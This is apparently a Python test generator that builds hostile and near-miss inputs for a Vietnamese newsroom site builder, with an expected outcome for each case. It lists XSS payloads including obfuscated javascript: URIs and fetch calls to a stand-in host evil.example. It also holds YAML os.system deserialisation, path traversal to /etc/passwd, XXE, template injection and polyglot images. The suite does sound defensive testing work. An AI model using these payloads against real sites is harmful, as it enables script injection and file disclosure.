"""Hostile content and its near misses, made by chance from parts: every family of issue 7.

A case says what has to become of it: `refused` (an error at its file), `harmless` (refused, or published and without
effect), `clean` (no error: what an honest editor writes). What a payload does when it lives is ask for a file of
EVIL, open a dialog, or set the page's title: `hostile.py` looks for each.
"""

import html
import json
from collections.abc import Callable, Iterator, Mapping
from random import Random
from typing import Literal, NamedTuple
from urllib.parse import quote

from newsroom_of import article, pdf, png

EVIL = "evil.example"
Outcome = Literal["refused", "harmless", "clean"]
Content = str | bytes


class Case(NamedTuple):
    """One case: its family, what it is made of, the file that it stands in, other files, what has to become of it."""

    family: str
    label: str
    path: str
    text: Content
    outcome: Outcome
    files: Mapping[str, Content] = {}


Make = Callable[[Random, int], Case]

_JS = (
    f"fetch('//{EVIL}/f')", "alert(1)", "document.title='HIT'", f"top.location='//{EVIL}/'", f"import('//{EVIL}/m.js')",
    f"new Image().src='//{EVIL}/i'", "confirm`1`", "print()", "(0,eval)('document.title=`HIT`')",
)  # fmt: skip
_EVENTS = (
    "onclick", "onerror", "onload", "onmouseover", "onfocus", "onpointerenter", "ontoggle", "onanimationstart",
    "onbeforematch", "onscrollend", "oncontentvisibilityautostatechange", "onwebkittransitionend", "ONCLICK", "oNeRrOr",
    "onauxclick", "onbeforetoggle", "oncopy", "formaction",
)  # fmt: skip
_TAGS = (
    "a", "b", "img", "p", "details", "span", "video", "audio", "svg", "math", "iframe", "object", "embed", "form",
    "button", "input", "marquee", "style", "link", "meta", "base", "template", "noscript", "textarea", "title", "xmp",
    "plaintext", "select", "dialog", "portal", "fencedframe", "x-y", "animate", "set", "foreignObject", "use", "image",
    "body", "html", "head", "frameset", "frame", "isindex", "keygen", "table", "td", "summary", "slot", "script",
    "SCRIPT", "sCrIpT", "search", "selectlist", "model", "webview", "applet", "bgsound", "layer", "nobr", "picture",
)  # fmt: skip
_URL_ATTRIBUTES = (
    "href", "src", "action", "formaction", "data", "poster", "xlink:href", "srcset", "background", "srcdoc", "ping",
    "cite", "longdesc", "manifest", "style", "to", "values", "from", "content", "imagesrcset", "usemap", "archive",
)  # fmt: skip


def _spelled(random: Random, scheme: str) -> str:
    """Return a scheme as those write it who want it to be missed."""
    ways: tuple[Callable[[str], str], ...] = (
        lambda s: s,
        lambda s: "".join(random.choice((c.upper(), c.lower())) for c in s),
        lambda s: "".join(f"&#{ord(c)};" if random.random() < 0.4 else c for c in s),
        lambda s: "".join(f"&#x{ord(c):X}" + random.choice((";", ";", "")) if random.random() < 0.3 else c for c in s),
        lambda s: s[:3] + random.choice(("\t", "&Tab;", "&NewLine;", "&#10;", "&#0;", "\u00ad", "\u200b")) + s[3:],
        lambda s: random.choice((" ", "&#1;", "&#32;", "\u3000", "&nbsp;", "\ufeff", "&#x0C;")) + s,
        lambda s: s.replace(":", random.choice(("&colon;", "&#58;", "&#x3a;", "%3A", "：", " :"))),
        lambda s: quote(s[:4]) + s[4:],
        lambda s: "".join(f"\\{c}" if c in "ascript" and random.random() < 0.2 else c for c in s),
    )
    return random.choice(ways)(scheme)


def _address(random: Random) -> str:
    """Return an address that nobody should follow, or one that looks so."""
    script = random.choice(_JS)
    return random.choice(
        (
            _spelled(random, "javascript:") + script,
            _spelled(random, "vbscript:") + "MsgBox(1)",
            _spelled(random, "data:text/html,") + f"<script>{script}</script>",
            _spelled(random, "data:image/svg+xml;base64,") + "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
            f"//{EVIL}/x", f"/\\{EVIL}/x", f"\\\\{EVIL}\\x", f"///{EVIL}/x", f"https:{EVIL}/x", f"http:/\\{EVIL}",
            f"/&#47;{EVIL}", f"/\t/{EVIL}/", f"https://so-mau.example@{EVIL}/", f"https://{EVIL}\\@so-mau.example/",
            "file:///etc/passwd", "blob:https://x/1", "filesystem:http://x/t/1", "jar:http://x!/", "about:blank#x",
            "view-source:http://x", "feed:javascript:alert(1)", "intent://x#Intent;end", "ms-word:ofe|u|x",
            "../../../etc/passwd", "/../../x", "%2e%2e/%2e%2e/etc/passwd", "{static}/../../x", "|filename|../../x",
            "{javascript}:alert(1)", "java\nscript:alert(1)", "livescript:x", "mocha:x", "ws://x", "gopher://x",
        )
    )  # fmt: skip


def _tag(random: Random) -> str:
    """Return raw HTML with something in it that lives, or tries to."""
    name = random.choice(_TAGS)
    script = random.choice(_JS)
    q = random.choice(('"', "'", "", "`"))
    gap = random.choice((" ", "/", "\t", "\n", " / ", "\x0c"))
    attribute = random.choice(
        (
            lambda: f"{random.choice(_EVENTS)}={q}{script}{q}",
            lambda: f"{random.choice(_URL_ATTRIBUTES)}={q}{_address(random)}{q}",
            lambda: (
                f"style={q}{random.choice(('background:url(//%s/b)', 'x:expression(alert(1))', 'behavior:url(#x)')).replace('%s', EVIL)}{q}"
            ),
            lambda: (
                f"{random.choice(('id', 'class', 'name', 'for', 'is', 'slot', 'popover', 'popovertarget', 'contenteditable', 'autofocus', 'tabindex', 'accesskey', 'role', 'itemtype', 'xmlns', 'nonce', 'part'))}={q}{random.choice(('search', 'noi-dung', 'menu', 'document', 'x onclick=alert(1)', 'getElementById'))}{q}"
            ),
            lambda: "",
        )
    )()
    inner = random.choice(("x", script, f"<img src=x onerror={script}>", f"<script>{script}</script>", "", "</p>"))
    end = random.choice((f"</{name}>", "", f"</{name}", f"</{name} onclick=x>", "<//>"))
    opened = f"<{name}{gap}{attribute}{random.choice(('>', '>', '/>', '', ' >', '>>'))}"
    return opened + inner + end


def _tricks(random: Random) -> str:
    """Return a body that relies on two readers reading it in two ways."""
    script = random.choice(_JS)
    alive = f"<img src=x onerror={script}>"
    return random.choice(
        (
            f"<!--{random.choice(('>', '->', '-->', '--!>', '<!-->'))}{alive}",
            f"<![CDATA[{alive}]]>", f"<!{alive}", f"<?xml {alive}?>", f"</{alive}", f"<%{alive}%>",
            f"[x]({_address(random)} \"{alive}\")", f"![{alive}]({_address(random)})", f"![a](images/anh.png \"{alive}\")",
            f"[a]: {_address(random)} '{alive}'\n\n[x][a] ![y][a]", f"<{_address(random)}>",
            f"`{alive}` ``` {alive}", f"~~~\n{alive}\n~~~ {alive}", f"```{alive}\n{alive}\n```", f"    {alive}\n{alive}",
            f"| a | b |\n|---|---|\n| {alive} | [x]({_address(random)}) |",
            f"x[^1]\n\n[^1]: {alive} [y]({_address(random)})", f"x[^{alive}]\n\n[^{alive}]: y",
            f"# {alive} {{#id onclick={script}}}", f"x {{: onclick={script} }}", "*x*{: style=color:red }",
            f"<p markdown=1>{alive}</p>", f"<div markdown='1' onclick={script}>*x*</div>",
            f"&lt;img src=x onerror={script}&gt;", html.escape(alive), f"\\<img src=x onerror={script}\\>",
            f"&#60;script&#62;{script}&#60;/script&#62;", f"&amp;lt;script&amp;gt;{script}",
            f"<a href=\"x\" title='{alive}'>y</a>", f"<abbr title=\"&quot;>{alive}\">x</abbr>",
            f"<a href='https://a.example/{quote(alive)}'>y</a>", f"<a href=\"{_address(random)}\">y</a>",
            f"<{'b' * 200} onclick={script}>x", f"<b\0onclick={script}>x</b>", f"<b \u2028onclick={script}>x</b>",
            f"<svg><style>{alive}</style></svg>", f"<math><mi xlink:href={_address(random)}>x</mi></math>",
            f"<table><{alive}<td>", f"<select><noscript></select>{alive}</noscript>",
            "{{ config }} {% include '/etc/passwd' %} {{7*7}}", f"${{{script}}} #{{{script}}} <%= 1 %>",
            "--8<-- \"/etc/passwd\"", "{!/etc/passwd!}", "[[include:/etc/passwd]]", "<!--#include file=\"/etc/passwd\"-->",
            f"<a\nhref=javascript&colon;{script}\n>x</a>", f"<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{script}\">x</a>",
            f"<q cite='{_address(random)}'>x</q>", f"<del cite={_address(random)}>x</del>",
            f"<ol start=\"1\" onclick={script}><li value=x>y</ol>", f"<time datetime='{alive}'>x</time>",
            f"<img src=images/anh.png alt='{alive}'>", f"<img src=\"images/anh.png\" alt=x srcset=\"//{EVIL}/1 1x\">",
            f"<details open ontoggle={script}><summary>x</summary></details>", "{attach}/etc/passwd [a]({attach}../x)",
        )
    )  # fmt: skip


def body(random: Random, number: int) -> Case:
    """HTML and Markdown in a body."""
    made = random.choice((_tag, _tag, _tricks))(random)
    wrap = random.choice(
        ("{}", "Một {} hai.", "- {}", "> {}", "1. {}\n2. x", "| a |\n|---|\n| {} |", "**{}**", "## {}")
    )
    return _article("body", number, made, "harmless", wrap.replace("{}", made))


_HONEST = (
    "Nếu 3 < 5 và 7 > 2 thì a<b.", "Viết `<script>alert(1)</script>` trong mã.",
    "Thẻ <b>đậm</b>, <i>nghiêng</i>, H<sub>2</sub>O, m<sup>2</sup>.", "<abbr title=\"Ủy ban\">UBND</abbr> họp.",
    "[Cổng](https://chinhphu.vn/a?b=1&c=2#d) và <https://hanam.gov.vn>.", "Thư: <mailto:so@hanam.gov.vn>",
    "![Lễ trao giải](images/anh.png \"Sáng 5/6\")", "| a | b |\n|---|:-:|\n| 1 < 2 | x & y |", "Hàm onclick là gì? javascript: là gì?",
    "Dùng &lt;b&gt; và &amp;, &nbsp; &copy; 2024.", "{{ không phải mẫu }} {% cũng vậy %}.", "x[^1]\n\n[^1]: Chú thích <em>này</em>.",
    "<details><summary>Xem thêm</summary>Nội dung</details>", "5 > 3; a -> b; <- trái; <3 yêu; >_<", "C:\\Users\\x và \\\\máy\\chung",
     "AT&T, R&D, Q&A; a&b=c", "<kbd>Ctrl</kbd>+<kbd>C</kbd>",
    "Toán: $x^2$, ${a}$, #{b}.", "1. một\n2. hai\n   - ba", "<time datetime=\"2024-05-01\">1/5</time>",
    "Tải [mẫu](files/ke-hoach.pdf).", "<figure><img src=\"images/anh.png\" alt=\"x\"><figcaption>y</figcaption></figure>",
    "Gõ data: rồi ảnh; file: rồi tên.", "Tiếng Anh: can't, “quoted” — dash…", "50% < 60 %, ≤ ≥ ≠",
)  # fmt: skip


def honest(random: Random, number: int) -> Case:
    """Bodies of honest editors that look like attacks."""
    made = "\n\n".join(random.sample(_HONEST, random.choice((1, 2, 3))))
    return _article("near misses in bodies", number, made, "clean", made)


_FIELDS = (
    "title",
    "summary",
    "author",
    "alt",
    "credit",
    "correction",
    "source",
    "exemplar",
    "document",
    "page",
    "unit",
)


def fields(random: Random, number: int) -> Case:
    """A hostile text in a field of metadata, an alternative text or a name: text, wherever it goes."""
    script = random.choice(_JS)
    payload = random.choice(
        (
            f"\"><img src=x onerror={script}>", f"'><svg onload={script}>", f"</title><script>{script}</script>",
            f"</script><script>{script}</script>", f"\\\"</script><!--<script>{script}", f"]]><x onload={script}>",
            f"--><b onclick={script}>", f"\" onmouseover=\"{script}", f"' autofocus onfocus='{script}", f"`${{{script}}}`",
            f"{{{{constructor.constructor('{script}')()}}}}", f"javascript:{script}", f"\\u003cimg src=x onerror={script}\\u003e",
            f"&lt;img src=x onerror={script}&gt;", f"&quot; onclick={script} x=&quot;", "%0d%0aSet-Cookie: a=b", "a\\nBEGIN:VALARM",
            f"=HYPERLINK(\"http://{EVIL}\";\"x\")", f"<a href=//{EVIL}>x</a>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
            f"*x* [y](javascript:{script}) **z**", "{% include '/etc/passwd' %}", "\\\"}]}</script>", f"<style>@import '//{EVIL}/c'</style>",
        )
    )  # fmt: skip
    value = json.dumps(f"Chữ {payload} {number}", ensure_ascii=False)
    field = random.choice(_FIELDS)
    label = f"{field}: {payload}"
    match field:
        case "alt" | "credit":
            other = "credit" if field == "alt" else "alt"
            image = f"{{file: images/anh.png, {field}: {value}, {other}: Ảnh}}"
            return _article("fields", number, label, "harmless", "Tin.", image=image)
        case "correction":
            return _article(
                "fields", number, label, "harmless", "Tin.", corrections=f"[{{date: 2023-07-01, text: {value}}}]"
            )
        case "source":
            origin = f'{{name: {value}, url: "https://a.example/", time: 2023-06-11}}'
            return _article("fields", number, label, "harmless", "Tin.", source=origin)
        case "exemplar":
            text = f"---\nname: {value}\nkind: tap-the\nsummary: {value}\n---\nx\n"
            return Case("fields", label, f"exemplars/h-{number}.md", text, "harmless")
        case "document":
            text = f"---\nnumber: {number % 900 + 1}/KH-SM\ntype: Kế hoạch\ndate: 2018-01-15\nissuer: {value}\nsigner: {value}\ntitle: {value}\n---\n"
            return Case("fields", label, f"documents/h-{number}.md", text, "harmless")
        case "page":
            return Case(
                "fields", label, f"pages/h-{number}.md", f"---\ntitle: {value}\nsummary: {value}\n---\nx\n", "harmless"
            )
        case "unit":
            return _article("fields", number, label, "refused", "Tin.", unit=value)
        case _:
            return _article("fields", number, label, "harmless", "Tin.", **{field: value})


_ODD = (
    "\x00", "\x01", "\x07", "\x0b", "\x1b", "\x7f", "\x85", "\x9b", "\u2028", "\u2029", "\ufdd0", "\ufffe", "\uffff",
    "\U0001fffe", "\u202e", "\u202a", "\u2066", "\u2069", "\u200e", "\u061c", "\u200b", "\u2060", "\ufeff", "\u00ad",
    "\u180e", "\ue000", "\U000f0001", "\u115f", "\u3164", "\u2800", "\U000e0041", "\ufff9", "\u034f",
)  # fmt: skip
_ALIKE = (
    "Hà N\u0430m", "h\u043e\u1ea1t động", "\u0422hông báo", "Ν\u0067ày hội", "sáng kiến ki\u0435n", "\uff34hi đua",
    "p\u0430ypal", "Sở \u039chung", "c\u03bfn", "\U0001d413in",
)  # fmt: skip
_LEGACY = ("ViÖt Nam §éc lËp Tù do H¹nh phóc", "Coäng hoøa xaõ hoäi chuû nghóa Vieät Nam", "Viá»‡t Nam Ä‘á»™c láº­p", "Thi ðua yêu nýớc, chaìo mýÌng")  # fmt: skip


def text(random: Random, number: int) -> Case:
    """Characters that nobody sees, that look like others, that turn a line round; texts from before Unicode."""
    where = random.choice(("body", "title", "summary", "tags"))
    word = "Tuyên truyền thi đua"
    bad = random.choice((0, 0, 1, 2))
    if bad == 0:
        at = random.randrange(1, len(word))
        said = word[:at] + random.choice(_ODD) + word[at:]
    elif bad == 1:
        said = f"{word} {random.choice(_ALIKE)}"
    else:
        said, where = random.choice(_LEGACY), random.choice(("body", "title", "summary"))
    label = f"{where}: {said!r}"
    if where == "body":
        return _article("text", number, label, "refused", f"{said} năm nay.")
    if where == "tags":
        return _article("text", number, label, "refused", "Tin.", tags=f"[{said}]")
    return _article("text", number, label, "refused", "Tin.", **{where: said})


_PLAIN = (
    "Đường kính 5 µm, 3 Ω, 2 × 3, 20 °C, ½, №, €, ©, ®, ™", "Beyoncé, Zürich, São Paulo, naïve, Škoda", "Москва, Αθήνα, 北京, ソウル, 서울",
    "Cờ 🇻🇳, gia đình 👨‍👩‍👧, trái tim ❤️, số 1️⃣", "α, β, γ, Δt, μ, π ≈ 3,14", "Nghiêng: “trích ‘trong’ trích”…", "Đắk Lắk, Krông Pắc, Ê Đê, Ba Na",
    "a\u00a0b\u00a0c", "Tiếng Ả Rập: السلام", "Hindi: क्ष", "H₂O, m², x³, 10⁻⁶", "→ ← ↑ ↓ • ■ □ ▪", "đ/c, TP.HCM, v.v.",
)  # fmt: skip


def plain(random: Random, number: int) -> Case:
    """Signs, units and words of other languages that stand in honest texts."""
    said = random.choice(_PLAIN)
    where = random.choice(("body", "summary"))
    made = {"summary": json.dumps(said, ensure_ascii=False)} if where == "summary" else {}
    return _article(
        "near misses in text", number, f"{where}: {said}", "clean", said if where == "body" else "Tin.", **made
    )


def yaml(random: Random, number: int) -> Case:
    """Front matter that is more than fields."""
    head = f"id: h-{number}\ntitle: Tin\ndate: 2023-06-11\nkind: news\ntags: [van-hoa]\nsummary: Tóm tắt.\n"
    more = random.choice(
        (
            "author: !!python/object/apply:os.system ['id']", "author: !!python/name:os.system", "author: &a [*a]",
            "x: &a [1,2]\ny: [*a,*a]", "<<: {author: x}", "author: *khong", "author: !t x", "author: |\n\tx",
            "author: [" * 40 + "]" * 40, "author: {a: " * 40 + "1" + "}" * 40, "title: hai\n", "author: \"\\x00\"", "author: \"\\u202e\"",
            "author: \"\\uFFFE\"", "? [a]\n: b", "%YAML 1.1", "author: @x", "author: `x`", "save_as: ../x.html", "url: ../x", "template: /etc/passwd",
            "slug: ../../x", "status: published; rm", "aliases: [\"/../../etc/passwd\"]", "aliases: [\"/a\\0b/\"]", "lang: ../x",
            "image: {file: ../../etc/passwd, alt: x}", "image: {file: /etc/passwd, alt: x}", "image: {file: \"images/anh.png\\0.md\", alt: x}",
            "image: {file: \"http://evil.example/x.png\", alt: x}", "source: {name: x, url: \"javascript:alert(1)\", time: 2023-06-11}",
            "unit: {a: b}", "author: [a, b]", "exemplars: x", "sample: maybe", "allow: [{rule: html-not-allowed, reason: được}]",
            "allow: [{rule: khong-co, reason: được}]", "category: ../../x", "author: 'x", "author: \"x", "author: [x", "a b c", "\tauthor: x",
            "date: 2023-06-12", "tags: [[x]]", "corrections: [{date: 2023-07-01}]",
        )
    )  # fmt: skip
    return Case("YAML", more, f"articles/h-{number}.md", f"---\n{head}{more}\n---\nTin.\n", "refused")


def dates(random: Random, number: int) -> Case:
    """Days that are none, and spellings that are days."""
    bad = (
        "2023-02-29", "2024-02-30", "31/4/2023", "2023-13-01", "2023-00-10", "00/01/2023", "2023-06-11 24:01", "2023-06-11 12:60",
        "11-06", "hôm qua", "2023", "tháng 6", "0000-01-01", "99999-01-01", "2023-06-11T07:30:00+99:00", "1e9", "-2023-06-11",
        "11/6/23", "2023/6", "06-2023-11", "2023-06-31", "29/2/1900", "１１/６/２０２３", "2023-06-11 7h", "null", "[2023-06-11]", "2023-06-11; rm",
    )  # fmt: skip
    good = ("2023-06-11", "2023-06-11 07:30", "2024-02-29", "11/6/2023", "2023-06-11T07:30", "01/01/2023")
    if random.random() < 0.75:
        value = random.choice(bad)
        return _article("dates", number, value, "refused", "Tin.", date=value)
    value = random.choice(good)
    return _article("near misses in dates", number, value, "clean", "Tin.", date=value)


def paths(random: Random, number: int) -> Case:
    """Names of files that a site must not have, and names that it may."""
    bad = (
        f"articles/CON-{number}/../x", "articles/con.md", f"articles/aux.{number}.md", f"articles/Bai{number}.",
        f"images/.an-{number}.png", f"files/.env{number}", f"files/id_rsa{number}", f"files/x-{number}.php", f"files/x-{number}.html",
        f"files/x-{number}.svgz", f"files/x-{number}.exe", f"files/x-{number}.pdf.js", f"images/x-{number}.jsp", f"files/{'d' * 240}{number}.pdf",
        f"images/a\u202e{number}.png", f"images/a\u200b{number}.png", f"files/a|{number}.pdf", f"files/a:{number}.pdf", f"files/a?{number}.pdf",
        f"files/a\n{number}.pdf", f"files/nul.{number}.pdf", f"files/COM1.{number}.pdf", f"files/a{number}.pdf~", f"files/a{number}.bak",
        f"files/khoa-{number}.pem", f"files/data{number}.sqlite", f"files/0912-345-{number % 900 + 100}.pdf",
    )  # fmt: skip
    good = (
        f"images/anh-{number}.png",
        f"images/Ảnh đẹp {number}.png",
        f"files/Kế hoạch số {number}.pdf",
        f"images/a_b-{number} (1).png",
    )
    if random.random() < 0.8:
        name = random.choice([one for one in bad if "/../" not in one])
        content: Content = pdf() if name.endswith(".pdf") else png() if name.endswith(".png") else b"<?php x ?>"
        if name.startswith("articles/") and name.endswith(".md"):
            content = article("Tin.", id=f"h-{number}")
        # A hidden file that is no secret is passed over in silence: it is never published.
        return Case("paths", repr(name), name, content, "harmless" if "/.an" in name else "refused")
    name = random.choice(good)
    return Case("near misses in paths", name, name, pdf() if name.endswith(".pdf") else png(), "clean")


def pictures(random: Random, number: int) -> Case:
    """Pictures that are cut, hold something else, or are not what their name says."""
    from io import BytesIO

    from PIL import Image

    def made(form: str, size: tuple[int, int] = (40, 30), **options: object) -> bytes:
        file = BytesIO()
        image = Image.new("RGB", size, (number % 255, 90, 120))
        for at in range(0, size[0], 3):
            image.putpixel((at, at % size[1]), (255, at % 255, 0))
        image.save(file, form, **options)
        return file.getvalue()

    form, end = random.choice((("PNG", "png"), ("JPEG", "jpg"), ("WEBP", "webp"), ("GIF", "gif")))
    raw = made(form)
    kind = random.choice(
        (
            "cut",
            "cut",
            "appended",
            "appended",
            "wrong name",
            "html",
            "svg",
            "bytes",
            "empty",
            "prefix",
            "good",
            "good",
            "text chunk",
        )
    )
    outcome: Outcome = "refused"
    match kind:
        case "cut":
            raw = raw[: random.randrange(1, len(raw) - 4)]
        case "appended":
            raw += random.choice(
                (
                    b"<script>alert(1)</script>",
                    b"PK\x03\x04" + b"x" * 60,
                    b"%PDF-1.4 x",
                    b"<?php x ?>",
                    b"\xff\xd9<html>",
                    b"Rar!\x1a\x07x",
                )
            )
        case "wrong name":
            end = random.choice([one for one in ("png", "jpg", "webp", "gif", "avif") if one != end])
        case "html":
            raw = random.choice(
                (
                    b"<html><script>alert(1)</script>",
                    b"GIF89a=1;alert(1)//",
                    b"\x89PNG\r\n\x1a\n<script>alert(1)</script>",
                    b"BM<script>",
                )
            )
        case "svg":
            end = "svg"
            live = random.choice(
                ("<script>alert(1)</script>", "<a href='javascript:alert(1)'><text>x</text></a>", f"<image href='//{EVIL}/x'/>", "<g onload='alert(1)'/>",
                 "<foreignObject><b>x</b></foreignObject>", f"<style>@import '//{EVIL}'</style>", "<animate attributeName='href' to='javascript:alert(1)'/>",
                 f"<use href='//{EVIL}/x#y'/>", "<set attributeName='onclick' to='alert(1)'/>", "&x;", f"<rect fill='url(//{EVIL}/x)'/>")
            )  # fmt: skip
            top = random.choice(
                (
                    "",
                    "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
                    "<?xml-stylesheet href='//evil.example/'?>",
                )
            )
            raw = f"{top}<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'>{live}</svg>".encode()
        case "bytes":
            start = random.randrange(8, len(raw) - 8)
            raw = raw[:start] + random.randbytes(6) + raw[start + 6 :]
            outcome = "harmless"  # of some pixels another colour is left
        case "empty":
            raw = random.choice((b"", b"\0" * 100, b" "))
        case "prefix":
            raw = random.choice((b"\n", b"\xef\xbb\xbf", b"#!/bin/sh\n")) + raw
        case "good":
            outcome = "clean"
        case "text chunk":
            end, outcome = "png", "harmless"
            from PIL.PngImagePlugin import PngInfo

            info = PngInfo()
            info.add_text("Comment", "<script>alert(1)</script>")
            raw = made("PNG", pnginfo=info)
    name = f"images/h-{number}.{end}"
    case = _article("pictures", number, f"{kind} {end}", outcome, f"![Ảnh]({name})")
    return case._replace(files={name: raw})


FAMILIES: Mapping[str, Make] = {
    "body": body, "honest": honest, "fields": fields, "text": text, "plain": plain, "yaml": yaml, "dates": dates,
    "paths": paths, "pictures": pictures,
}  # fmt: skip


def _article(family: str, number: int, label: str, outcome: Outcome, body: str, /, **fields: str) -> Case:
    made = article(body, **{"id": f"h-{number}", "title": f"Tin {number}", **fields})
    return Case(family, label, f"articles/h-{number}.md", made.encode("utf-8", "surrogatepass"), outcome)


def cases(seed: int, each: int, only: str = "") -> Iterator[Case]:
    """Yield so many cases of each family, or of one."""
    number = 0
    for name, make in FAMILIES.items():
        if only not in ("", name):
            continue
        random = Random(f"{name} {seed}")
        for _ in range(each):
            number += 1
            yield make(random, number)
